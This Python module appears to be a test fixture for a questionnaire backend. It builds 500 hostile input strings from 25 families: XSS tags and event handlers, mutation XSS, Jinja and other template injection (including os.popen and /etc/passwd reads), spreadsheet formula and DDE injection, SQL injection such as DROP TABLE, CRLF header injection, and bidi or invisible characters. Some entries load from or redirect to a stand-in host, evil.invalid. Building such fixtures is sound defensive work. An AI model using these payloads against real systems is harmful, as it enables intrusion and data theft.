"""Five hundred hostile texts: twenty of each of twenty-five families, made by a rule.

A text that would execute calls `__hit` with its number, which the journeys listen for; `¤` stands
for the number in the patterns below.
"""

from collections.abc import Iterator
from typing import NamedTuple

from backend.questionnaire.text import UNSTORABLE, one_line

A_FAMILY = 20
CALL = "__hit(¤)"


class Hostile(NamedTuple):
    """One text, and the family that it belongs to."""

    family: str
    text: str

    def fit(self, longest: int) -> str:
        """As much of it as can be stored in one line of so many characters."""
        return one_line(UNSTORABLE.sub("", self.text))[:longest].strip() or "-"


FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>__hit(¤)</script>",
        "<ScRiPt >__hit(¤)</sCrIpT >",
        "<script\t>__hit(¤)</script\n>",
        "<script/x>__hit(¤)</script>",
        "<<script>__hit(¤)//<</script>",
        "<scr<script>ipt>__hit(¤)</scr</script>ipt>",
        "<script src=//evil.invalid/¤></script>",
        "<script type=module>__hit(¤)</script>",
    ),
    "handler": (
        "<img src=x onerror=__hit(¤)>",
        "<img src onerror=__hit(¤)>",
        "<IMG/SRC=x/ONERROR=__hit(¤)>",
        "<body onload=__hit(¤)>",
        "<details open ontoggle=__hit(¤)>",
        "<input autofocus onfocus=__hit(¤)>",
        "<marquee onstart=__hit(¤)>",
        "<video><source onerror=__hit(¤)>",
        "<a id=x tabindex=1 onfocus=__hit(¤) autofocus>",
        "<x onpointerenter=__hit(¤)>over</x>",
    ),
    "double quote": (
        '"><script>__hit(¤)</script>',
        '" onfocus=__hit(¤) autofocus x="',
        '" onmouseover="__hit(¤)" "',
        '"><img src=x onerror=__hit(¤)>',
        '"/><svg onload=__hit(¤)>',
        '\\"><script>__hit(¤)</script>',
        '" style="animation:x" onanimationstart="__hit(¤)',
    ),
    "single quote": (
        "'><script>__hit(¤)</script>",
        "' onfocus=__hit(¤) autofocus x='",
        "`><img src=x onerror=__hit(¤)>",
        "x onfocus=__hit(¤) autofocus",
        "';__hit(¤);'",
        "'-__hit(¤)-'",
        "&apos;><img src=x onerror=__hit(¤)>",
    ),
    "closing tags": (
        "</textarea><script>__hit(¤)</script>",
        "</title><script>__hit(¤)</script>",
        "</option></select><img src=x onerror=__hit(¤)>",
        "</template><img src=x onerror=__hit(¤)>",
        "</legend></fieldset></form><script>__hit(¤)</script>",
        "</style></script><script>__hit(¤)</script>",
        "</noscript><img src=x onerror=__hit(¤)>",
        "</p></li></ol></main></body><script>__hit(¤)</script>",
    ),
    "comment": (
        "--><script>__hit(¤)</script>",
        "<!--><script>__hit(¤)</script>",
        "<![CDATA[<script>__hit(¤)</script>]]>",
        "<!--[if gte IE 4]><script>__hit(¤)</script><![endif]-->",
        "--!><img src=x onerror=__hit(¤)>",
        "<?xml ?><script>__hit(¤)</script>",
        "<!-- ¤",
    ),
    "svg": (
        "<svg onload=__hit(¤)>",
        "<svg><script>__hit(¤)</script></svg>",
        "<svg><animate onbegin=__hit(¤) attributeName=x dur=1s>",
        "<svg><set onbegin=__hit(¤) attributeName=x>",
        "<svg><a xlink:href=javascript:__hit(¤)><text y=9>go</text></a></svg>",
        "<svg><use href=data:image/svg+xml,<script>__hit(¤)</script>></svg>",
        "<svg><foreignObject><img src=x onerror=__hit(¤)></foreignObject></svg>",
    ),
    "mutation": (
        "<math><mtext></p><img src=x onerror=__hit(¤)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=__hit(¤)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__hit(¤)>",
        "<noscript><p title='</noscript><img src=x onerror=__hit(¤)>'>",
        "<svg><p><style><g title='</style><img src=x onerror=__hit(¤)>'>",
        "<table><td><a><table><td><img src=x onerror=__hit(¤)>",
        "<select><template><img src=x onerror=__hit(¤)></template></select>",
    ),
    "frame": (
        "<iframe src=javascript:__hit(¤)>",
        "<iframe srcdoc='<script>parent.__hit(¤)</script>'>",
        "<object data=javascript:__hit(¤)>",
        "<embed src=javascript:__hit(¤)>",
        "<frameset onload=__hit(¤)>",
        "<iframe src=//evil.invalid/¤></iframe>",
        "<portal src=//evil.invalid/¤ onload=__hit(¤)>",
    ),
    "head": (
        "<base href=//evil.invalid/¤/>",
        '<meta http-equiv=refresh content="0;url=//evil.invalid/¤">',
        '<meta http-equiv=refresh content="0;url=javascript:__hit(¤)">',
        "<link rel=stylesheet href=//evil.invalid/¤.css>",
        "<link rel=import href=//evil.invalid/¤>",
        "<form action=//evil.invalid/¤><button>go",
        "<button form=x formaction=javascript:__hit(¤)>go",
    ),
    "jinja": (
        "{{ 7*7 }}¤",
        "{{ config }}¤",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}¤",
        "{% raw %}<script>__hit(¤)</script>",
        "{% include '/etc/passwd' %}¤",
        "{# <script>__hit(¤)</script>",
        "{{ url_for.__globals__ }}¤",
        "{{ '<script>__hit(¤)</script>' | safe }}",
        "{%- endblock %}{%- set x = ¤ %}",
        "{{ lipsum.__globals__.os.popen('id') }}¤",
    ),
    "other templates": (
        "${__hit(¤)}",
        "<%= __hit(¤) %>",
        "#{__hit(¤)}",
        "[[__hit(¤)]]",
        "{{constructor.constructor('__hit(¤)')()}}",
        "*{__hit(¤)}",
        "<% out.print(¤) %>",
        "%(x)s %s {0} {} ¤",
        "{0.__class__} %n%x ¤",
    ),
    "attributes of scripts": (
        "<div hx-on:click=__hit(¤) hx-get=/ hx-trigger=load>",
        "<div hx-get=//evil.invalid/¤ hx-trigger=load>",
        "<div data-hx-on:htmx:load=__hit(¤) data-hx-get=/logout data-hx-trigger=load>",
        "<div hx-vals='js:{a:__hit(¤)}' hx-post=/logout hx-trigger=load>",
        "<div data-refresh=//evil.invalid/¤ data-every=1>",
        "<div x-data x-init=__hit(¤)>",
        "<div data-dialog=x data-copy=#x data-sortable=x>¤",
    ),
    "script addresses": (
        "javascript:__hit(¤)",
        "JaVaScRiPt:__hit(¤)",
        "java\tscript:__hit(¤)",
        " javascript:__hit(¤)",
        "javascript&colon;__hit(¤)",
        "javascript://%0a__hit(¤)",
        "data:text/html,<script>__hit(¤)</script>",
        "vbscript:__hit(¤)",
        "<a href=javascript:__hit(¤)>go</a>",
        "//evil.invalid/¤",
    ),
    "markdown links": (
        "[go](javascript:__hit(¤))",
        "[go](JAVASCRIPT:__hit(¤))",
        "[go](javascript&#58;__hit(¤))",
        "[go](java&Tab;script:__hit(¤))",
        "[go](data:text/html;base64,PHNjcmlwdD4=¤)",
        "[go](vbscript:__hit(¤))",
        "[go](<javascript:__hit(¤)>)",
        '[go](https://example.org/¤ "\\" onmouseover=__hit(¤) x=\\"")',
        "[go](//evil.invalid/¤)",
        "[go][x¤] [x¤]: javascript:__hit(¤)",
    ),
    "markdown": (
        "![x](javascript:__hit(¤))",
        '![x" onerror="__hit(¤)](x)',
        "![x](//evil.invalid/¤.png)",
        "<javascript:__hit(¤)>",
        "**<img src=x onerror=__hit(¤)>**",
        "- <script>__hit(¤)</script>",
        "`<img src=x onerror=__hit(¤)>`",
        "[<img src=x onerror=__hit(¤)>](https://example.org/¤)",
        "¤ " + "[" * 60,
        "¤ " + "*_" * 40,
    ),
    "css": (
        "<style>*{background:url(//evil.invalid/¤)}</style>",
        "<style>@import '//evil.invalid/¤';</style>",
        "<div style=background:url(//evil.invalid/¤)>",
        "<div style=width:expression(__hit(¤))>",
        "};*{background:url(//evil.invalid/¤)}",
        "</style><img src=x onerror=__hit(¤)>",
        "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=__hit(¤)>",
    ),
    "formula": (
        "=1+¤",
        "+¤+1",
        "-¤+1",
        "@SUM(¤)",
        '=HYPERLINK("//evil.invalid/¤","go")',
        "=cmd|'/C calc'!A¤",
        "\t=1+¤",
        "＝1+¤",
        "＋¤+1",
        "－¤+1",
        "＠SUM(¤)",
        '"=1+¤',
        "  =1+¤",
        "%0A=1+¤",
        "=IMPORTXML(¤)",
    ),
    "control": (
        "¤\0<script>__hit(¤)</script>",
        "<scr\0ipt>__hit(¤)</script>",
        "¤\x08\x08\x08",
        "¤\x1b[31mred\x1b[0m",
        "¤\x0b\x0c\x7f",
        "¤\r\nSet-Cookie: a=b",
        "¤\r\n\r\n<script>__hit(¤)</script>",
        "¤%0d%0aLocation: //evil.invalid",
        "¤\x85\x9b\xad",
        "¤\u2028__hit(¤)\u2029",
    ),
    "bidirectional": (
        "¤\u202egnp.exe",
        "\u2066¤\u2069\u202e",
        "\u202a\u202b\u202d¤",
        "\u200f¤\u200e",
        "\u061c¤ שלום <b>",
        "\u2067\u2066¤\u202e<script>__hit(¤)</script>",
        "مرحبا ¤ \u202d(",
        "¤" + "\u202e" * 40,
    ),
    "invisible": (
        "¤\u200b<scr\u200bipt>__hit(¤)</script>",
        "\ufeff=1+¤",
        "\u200b=1+¤",
        "¤\u00ad\u2060\u180e",
        "\u200b\u200c\u200d¤",
        "＜script＞__hit(¤)＜/script＞",
        "‹script›__hit(¤)‹/script›",
        "¤\ufe0f\u034f\U000e0041",
        "аdmin ¤",
    ),
    "emoji": (
        "👩‍👩‍👧‍👦¤",
        "🏳️‍🌈¤",
        "¤" + "👨‍🚀" * 12,
        "🇨🇭🇩¤",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A¤",
        "¤" + "\u0301" * 80,
        "𝕳𝖎𝖙 ¤ 𐍈",
        "¤\ufffd\ufffc",
    ),
    "long": (
        "¤" + "W" * 190,
        "¤" + "漢" * 190,
        "¤" + "-" * 190,
        "¤" + "<b>" * 60,
        "¤" + "&amp;" * 35,
        "¤" + '"' * 150,
        "¤" + "a\u00a0" * 90,
        "¤" + "\\" * 180,
    ),
    "sql": (
        "'; DROP TABLE surveys; --¤",
        "' OR 1=1 --¤",
        "%' OR '%'='¤",
        "\\'; SELECT pg_sleep(¤); --",
        "$$; COPY users TO '/tmp/x'; $$¤",
        "_%\\¤",
        ":survey_id %(id)s ¤",
        "1) UNION SELECT name FROM users --¤",
        '{"a": {"$gt": ""}}¤',
        "/*¤*/",
    ),
    "twice encoded": (
        "&lt;script&gt;__hit(¤)&lt;/script&gt;",
        "&amp;lt;img src=x onerror=__hit(¤)&amp;gt;",
        "%3Cscript%3E__hit(¤)%3C/script%3E",
        "\\u003cscript\\u003e__hit(¤)\\u003c/script\\u003e",
        "&#60;script&#62;__hit(¤)&#60;/script&#62;",
        "\\x3cimg src=x onerror=__hit(¤)\\x3e",
        '"};__hit(¤);//',
        "</script><script>__hit(¤)</script>",
        "+ADw-script+AD4-__hit(¤)+ADw-/script+AD4-",
        "¼script¾__hit(¤)¼/script¾",
    ),
}


def _made() -> Iterator[Hostile]:
    """One text of each family in turn, so that any run of neighbours has many families."""
    number = 0
    for place in range(A_FAMILY):
        for family, patterns in FAMILIES.items():
            number += 1
            pattern = patterns[place % len(patterns)]
            again = place // len(patterns)
            yield Hostile(family, " " * again + pattern.replace("¤", str(number)))


TEXTS = tuple(_made())
"""The texts, no two of them the same."""
